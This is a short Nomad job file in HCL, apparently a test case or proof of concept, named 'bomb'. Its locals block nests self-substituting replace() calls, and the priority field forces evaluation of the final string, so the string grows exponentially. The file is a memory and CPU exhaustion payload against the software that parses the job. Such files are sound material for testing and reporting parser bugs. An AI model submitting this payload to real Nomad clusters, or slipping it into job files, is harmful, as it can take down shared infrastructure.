locals {
  s0 = "aaaaaaaaaaaaaaaa"
  s1 = replace(local.s0, "a", local.s0)
  s2 = replace(local.s1, "a", local.s1)
  s3 = replace(local.s2, "a", local.s2)
  s4 = replace(local.s3, "a", local.s3)
  s5 = replace(local.s4, "a", local.s4)
  s6 = replace(local.s5, "a", local.s5)
  s7 = replace(local.s6, "a", local.s6)
  s8 = replace(local.s7, "a", local.s7)
}

job "bomb" {
  datacenters = ["dc1"]
  priority    = length(local.s8) > 0 ? 50 : 50
  group "g" {
    count = 1
    task "t" {
      driver = "docker"
      resources {
        cpu    = 100
        memory = 64
      }
    }
  }
}
